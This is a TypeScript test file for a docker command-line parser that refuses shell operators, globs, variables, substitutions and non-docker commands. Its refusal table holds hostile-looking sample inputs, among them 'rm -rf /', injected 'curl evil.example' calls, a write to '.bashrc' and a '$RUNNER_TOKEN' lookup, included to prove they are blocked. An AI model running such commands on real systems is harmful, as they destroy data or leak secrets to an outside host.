// parseLine: a command line into argv words, without a shell, refusing every
// shell construct except the chapter's `$(docker ps -a -q)` and `<id>`.
import { describe, expect, it } from 'vitest'
import { parseLine } from '../../runner/policy/parse-line.ts'
import { planCommand } from '../../runner/policy/policy.ts'
import { LIMITS } from '../../lib/protocol.ts'
import { Refused } from '../../runner/policy/refusal.ts'
import { fakeEngine, refusalOf } from './fake-engine.ts'
import { titled } from './table.ts'

describe('parseLine words', () => {
  it.each(titled([
    { line: 'docker ps', words: ['ps'] },
    { line: '  docker   ps   -a  ', words: ['ps', '-a'] },
    { line: 'docker\tps', words: ['ps'] },
    { line: 'docker run --rm alpine echo "hello world"', words: ['run', '--rm', 'alpine', 'echo', 'hello world'] },
    { line: "docker run alpine echo 'a;b|c && d'", words: ['run', 'alpine', 'echo', 'a;b|c && d'] },
    { line: "docker run alpine echo '$HOME' '*'", words: ['run', 'alpine', 'echo', '$HOME', '*'] },
    { line: 'docker run alpine echo \\$HOME a\\ b \\;', words: ['run', 'alpine', 'echo', '$HOME', 'a b', ';'] },
    { line: 'docker run -e "A=b c" alpine', words: ['run', '-e', 'A=b c', 'alpine'] },
    { line: `docker ps --format '{{.ID}} {{.Names}}'`, words: ['ps', '--format', '{{.ID}} {{.Names}}'] },
    { line: 'docker ps --format {{.ID}}', words: ['ps', '--format', '{{.ID}}'] },
    { line: '"docker" ps', words: ['ps'] },
    { line: 'docker run -v data:/data~ alpine', words: ['run', '-v', 'data:/data~', 'alpine'] },
  ], (c) => c.line))('splits %s', (_, { line, words }) => {
    expect(parseLine(line)).toEqual(words)
  })

  it.each(titled([
    { line: 'docker exec -it <id> sh', words: ['exec', '-it', { placeholder: { kind: 'id', text: '<id>' } }, 'sh'] },
    { line: 'docker exec -it <id:redis> redis-cli', words: ['exec', '-it', { placeholder: { kind: 'id', image: 'redis', text: '<id:redis>' } }, 'redis-cli'] },
    { line: 'docker rmi <image-id:docker.io/library/redis:7>', words: ['rmi', { placeholder: { kind: 'image-id', image: 'docker.io/library/redis:7', text: '<image-id:docker.io/library/redis:7>' } }] },
    { line: 'docker stop "<id>"', words: ['stop', { placeholder: { kind: 'id', text: '<id>' } }] },
    { line: 'docker rm <id> <id:redis>', words: ['rm', { placeholder: { kind: 'id', text: '<id>' } }, { placeholder: { kind: 'id', image: 'redis', text: '<id:redis>' } }] },
  ], (c) => c.line))('turns the placeholders in %s into placeholder words', (_, { line, words }) => {
    expect(parseLine(line)).toEqual(words)
  })

  it.each(titled([
    { line: 'docker rm $(docker ps -a -q)', words: ['rm', { substitution: ['ps', '-a', '-q'] }] },
    { line: 'docker rm `docker ps -a -q`', words: ['rm', { substitution: ['ps', '-a', '-q'] }] },
    { line: 'docker rmi $(docker images -q)', words: ['rmi', { substitution: ['images', '-q'] }] },
    { line: 'docker rm -f $( docker ps -aq )', words: ['rm', '-f', { substitution: ['ps', '-aq'] }] },
    { line: 'docker rm "$(docker ps -a -q)"', words: ['rm', { substitution: ['ps', '-a', '-q'] }] },
    { line: 'docker stop $(docker ps -q) --time 1', words: ['stop', { substitution: ['ps', '-q'] }, '--time', '1'] },
  ], (c) => c.line))('turns the substitution in %s into one substitution word', (_, { line, words }) => {
    expect(parseLine(line)).toEqual(words)
  })

  it('accepts a line of exactly the longest length', () => {
    const line = `docker ps --filter name=${'a'.repeat(LIMITS.lineChars - 'docker ps --filter name='.length)}`
    expect(line).toHaveLength(LIMITS.lineChars)
    expect(parseLine(line)).toHaveLength(3)
  })
})

interface RefusedLine {
  line: string
  code: string
  subject?: string
  /** What the message must say. */
  says: string
}

const REFUSED: RefusedLine[] = [
  // operators
  { line: 'docker ps; rm -rf /tmp/x', code: 'shell-syntax', subject: ';', says: 'shell operator ;' },
  { line: 'docker ps;ls', code: 'shell-syntax', subject: ';', says: 'shell operator ;' },
  { line: 'docker ps | grep web', code: 'shell-syntax', subject: '|', says: 'shell operator |' },
  { line: 'docker ps || echo failed', code: 'shell-syntax', subject: '||', says: 'shell operator ||' },
  { line: 'docker ps && curl evil.example', code: 'shell-syntax', subject: '&&', says: 'shell operator &&' },
  { line: 'docker ps > /tmp/out', code: 'shell-syntax', subject: '>', says: 'shell operator >' },
  { line: 'docker ps >/tmp/out', code: 'shell-syntax', subject: '>', says: 'shell operator >' },
  { line: 'docker ps 1>/tmp/out', code: 'shell-syntax', subject: '>', says: 'shell operator >' },
  { line: 'docker ps >> .bashrc', code: 'shell-syntax', subject: '>>', says: 'shell operator >>' },
  { line: 'docker load < image.tar', code: 'shell-syntax', subject: '<', says: 'shell operator <' },
  { line: 'docker run alpine cat <(ls)', code: 'shell-syntax', subject: '<(', says: 'shell operator <(' },
  { line: 'docker run -d redis &', code: 'shell-syntax', subject: '&', says: 'shell operator &' },
  { line: 'docker ps 2>&1', code: 'shell-syntax', subject: '>&', says: 'shell operator >&' },
  { line: 'docker ps |& cat', code: 'shell-syntax', subject: '|&', says: 'shell operator |&' },
  { line: 'docker ps ;; ls', code: 'shell-syntax', subject: ';;', says: 'shell operator ;;' },
  { line: 'docker run alpine sh -c (ls)', code: 'shell-syntax', subject: '(', says: 'shell operator (' },
  // globs
  { line: 'docker rm *', code: 'glob', subject: '*', says: 'pattern * would be expanded' },
  { line: 'docker run -v data:/data alpine ls /etc/*.conf', code: 'glob', subject: '/etc/*.conf', says: 'pattern /etc/*.conf' },
  { line: 'docker rm web?', code: 'glob', subject: 'web?', says: 'pattern web?' },
  // variables
  { line: 'docker run -e A=$HOME alpine', code: 'variable', subject: '$HOME', says: 'Shell variables such as $HOME' },
  { line: 'docker run -e A=${HOME} alpine', code: 'variable', subject: '$HOME', says: '$HOME' },
  { line: 'docker run -e "A=$HOME" alpine', code: 'variable', subject: '$HOME', says: '$HOME' },
  { line: 'docker run -e "A=${RUNNER_TOKEN}" alpine', code: 'variable', subject: '$RUNNER_TOKEN', says: '$RUNNER_TOKEN' },
  { line: 'docker -H $DOCKER_HOST ps', code: 'variable', subject: '$DOCKER_HOST', says: '$DOCKER_HOST' },
  { line: 'docker run alpine echo $1', code: 'variable', subject: '$1', says: '$1' },
  { line: 'docker run alpine echo $?', code: 'variable', subject: '$?', says: '$?' },
  { line: 'docker run alpine echo $$', code: 'variable', subject: '$$', says: '$$' },
  // substitutions other than the chapter's
  { line: 'docker run alpine echo `id`', code: 'substitution', subject: 'id', says: 'only a docker listing runs' },
  { line: 'docker run alpine echo $(id)', code: 'substitution', subject: 'id', says: 'only a docker listing runs' },
  { line: 'docker run alpine echo "$(whoami)"', code: 'substitution', subject: 'whoami', says: 'only a docker listing runs' },
  { line: 'docker rm $(curl evil.example)', code: 'substitution', subject: 'curl evil.example', says: 'starts with "curl"' },
  { line: 'docker rm $(sudo docker ps -q)', code: 'substitution', subject: 'sudo docker ps -q', says: 'starts with "sudo"' },
  { line: 'docker rm $()', code: 'substitution', subject: '', says: 'only a docker listing runs' },
  { line: 'docker rm $(docker ps -q $(docker ps -q))', code: 'substitution', says: 'cannot be nested' },
  { line: 'docker rm $(docker ps -q `docker ps -q`)', code: 'substitution', says: 'cannot be nested' },
  { line: 'docker rm `docker ps -q $(id)`', code: 'substitution', says: 'cannot be nested' },
  { line: 'docker rm $(docker ps -q) $(docker ps -q)', code: 'substitution', says: 'Only one command substitution' },
  { line: 'docker rm `docker ps -q` `docker ps -q`', code: 'substitution', says: 'Only one command substitution' },
  { line: 'docker run alpine echo $((1+1))', code: 'substitution', says: 'Only one command substitution' },
  { line: 'docker rm $(docker ps -a -q', code: 'substitution', says: 'not closed' },
  { line: 'docker rm `docker ps -a -q', code: 'substitution', says: 'not closed' },
  { line: 'docker rm $(docker ps -q | head -1)', code: 'shell-syntax', subject: '|', says: 'shell operator |' },
  // expansions
  { line: 'docker run -v ~/src:/src alpine', code: 'expansion', subject: '~', says: 'leading ~' },
  { line: 'docker run alpine ls ~', code: 'expansion', subject: '~', says: 'leading ~' },
  { line: 'docker run alpine ls ~root', code: 'expansion', subject: '~', says: 'leading ~' },
  { line: 'docker rm {web,db}', code: 'expansion', subject: '{', says: 'Brace expansion' },
  { line: 'docker rm web{1,2}', code: 'expansion', subject: '{', says: 'Brace expansion' },
  { line: 'docker run alpine echo {1..3}', code: 'expansion', subject: '{', says: 'Brace expansion' },
  // comments
  { line: 'docker ps # list them', code: 'shell-syntax', subject: '#', says: 'Comments (#)' },
  { line: 'docker ps #', code: 'shell-syntax', subject: '#', says: 'Comments (#)' },
  // line breaks and control characters
  { line: 'docker ps\nrm -rf /', code: 'shell-syntax', subject: '"\\n"', says: 'line break or control character' },
  { line: 'docker ps\r\n', code: 'shell-syntax', subject: '"\\r"', says: 'line break or control character' },
  { line: 'docker ps\u0000', code: 'shell-syntax', subject: '"\\u0000"', says: 'line break or control character' },
  { line: 'docker ps \u0001', code: 'shell-syntax', subject: '"\\u0001"', says: 'line break or control character' },
  { line: 'docker ps \u001b[31m', code: 'shell-syntax', subject: '"\\u001b"', says: 'line break or control character' },
  { line: 'docker ps\u007f', code: 'shell-syntax', subject: JSON.stringify('\u007f'), says: 'line break or control character' },
  { line: 'docker ps \\\nls', code: 'shell-syntax', subject: '"\\n"', says: 'line break or control character' },
  // empty and too long
  { line: '', code: 'empty', says: 'The command is empty' },
  { line: '    ', code: 'empty', says: 'The command is empty' },
  { line: '\t', code: 'empty', says: 'The command is empty' },
  { line: `docker ps --filter name=${'a'.repeat(LIMITS.lineChars)}`, code: 'too-long', says: `at most ${LIMITS.lineChars}` },
  // not docker
  { line: 'sudo docker ps', code: 'not-docker', subject: 'sudo', says: 'starts with "sudo"' },
  { line: 'A=b docker ps', code: 'not-docker', subject: 'A=b', says: 'starts with "A=b"' },
  { line: 'DOCKER_HOST=tcp://evil.example docker ps', code: 'not-docker', subject: 'DOCKER_HOST=tcp://evil.example', says: 'start it with `docker`' },
  { line: 'podman ps', code: 'not-docker', subject: 'podman', says: 'starts with "podman"' },
  { line: '/usr/bin/docker ps', code: 'not-docker', subject: '/usr/bin/docker', says: 'start it with `docker`' },
  { line: 'Docker ps', code: 'not-docker', subject: 'Docker', says: 'start it with `docker`' },
  { line: 'docker-compose up', code: 'not-docker', subject: 'docker-compose', says: 'start it with `docker`' },
  { line: '"docker ps"', code: 'not-docker', subject: 'docker ps', says: 'start it with `docker`' },
  { line: 'rm -rf /', code: 'not-docker', subject: 'rm', says: 'Only docker commands run here' },
  { line: 'echo docker ps', code: 'not-docker', subject: 'echo', says: 'Only docker commands run here' },
  // placeholders glued to other text
  { line: 'docker logs web<id>', code: 'shell-syntax', says: 'must stand alone as a word' },
  { line: 'docker run --network container:<id> alpine', code: 'shell-syntax', says: 'must stand alone as a word' },
  { line: 'docker rm x$(docker ps -q)', code: 'shell-syntax', says: 'must stand alone as a word' },
]

const title = ({ line }: RefusedLine) => (line.length > 80 ? `${line.slice(0, 40)}… (${line.length} characters)` : JSON.stringify(line))

describe('parseLine refusals', () => {
  it.each(titled(REFUSED, title))('refuses %s', (_, { line, code, subject, says }) => {
    let thrown: unknown
    try {
      parseLine(line)
    } catch (error) {
      thrown = error
    }
    expect(thrown).toBeInstanceOf(Refused)
    const refusal = (thrown as Refused).toRefusal()
    expect(refusal.code).toBe(code)
    expect(refusal.subject).toBe(subject)
    expect(refusal.message).toContain(says)
  })
})

describe('planCommand refuses the same lines before anything runs', () => {
  it.each(titled(REFUSED, title))('refuses %s', async (_, { line, code, subject }) => {
    const engine = fakeEngine()
    const refusal = await refusalOf(planCommand(line, 'run-1', engine))
    expect(refusal).toMatchObject({ name: 'Refused', code, subject })
    expect(engine.queries).toEqual([])
  })
})

describe('Refused', () => {
  it('carries code, message and subject to the deck', () => {
    expect(new Refused('glob', 'no globs', '*').toRefusal()).toEqual({ code: 'glob', message: 'no globs', subject: '*' })
  })

  it('leaves subject out when there is none', () => {
    expect(new Refused('empty', 'The command is empty').toRefusal()).toEqual({ code: 'empty', message: 'The command is empty' })
  })
})
